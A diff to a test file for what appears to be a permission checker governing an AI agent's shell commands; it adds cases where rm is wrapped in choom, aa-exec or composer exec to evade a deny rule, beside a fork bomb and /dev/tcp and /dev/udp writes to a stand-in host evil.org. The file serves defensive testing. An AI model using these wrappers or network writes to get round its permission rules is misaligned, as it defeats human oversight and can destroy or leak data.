@@ -30,6 +30,9 @@ function decisionOf(command: string, rules: readonly string[], mode: ModeName): 
 /** Holes that were found, each with what it must come to. */
 const cases: readonly [command: string, rules: string[], mode: ModeName, expected: Decision][] = [
   [':(){ :|:& };:', [], 'default', 'ask'],
+  ['choom -n 1 -- rm a', ['allow Bash', 'deny Bash(rm:*)'], 'default', 'deny'],
+  ['aa-exec -p x rm a', ['allow Bash', 'deny Bash(rm:*)'], 'default', 'deny'],
+  ['composer exec rm a', ['allow Bash', 'deny Bash(rm:*)'], 'default', 'deny'],
   ['echo x > /dev/tcp/$h/80', ['deny WebFetch(evil.org)'], 'bypass', 'ask'],
   ['h=evil.org; cat < /dev/udp/$h/80', ['deny WebFetch(evil.org)'], 'bypass', 'ask'],
   ['echo x > /dev/tcp/good.org/80', ['deny WebFetch(evil.org)'], 'bypass', 'allow'],
